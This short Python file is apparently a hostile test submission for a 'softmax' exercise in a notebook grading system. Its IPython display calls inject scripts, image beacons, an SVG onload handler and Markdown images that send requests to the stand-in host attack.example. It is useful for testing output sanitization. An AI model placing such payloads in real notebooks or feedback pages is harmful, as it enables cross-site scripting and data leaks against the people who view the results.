"""Shows pages and drawings with scripts, for whoever opens the feedback."""
# exercise: softmax
# where: answer

from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>fetch('http://attack.example/LEAKED')</script>"))
display(HTML("<img src='http://attack.example/LEAKED'>"))
display(Javascript("fetch('http://attack.example/LEAKED')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>LEAKED</svg>"))
display(Markdown("![](http://attack.example/LEAKED)"))
display({"text/html": "LEAKED", "application/x-anything": "LEAKED"}, raw=True)
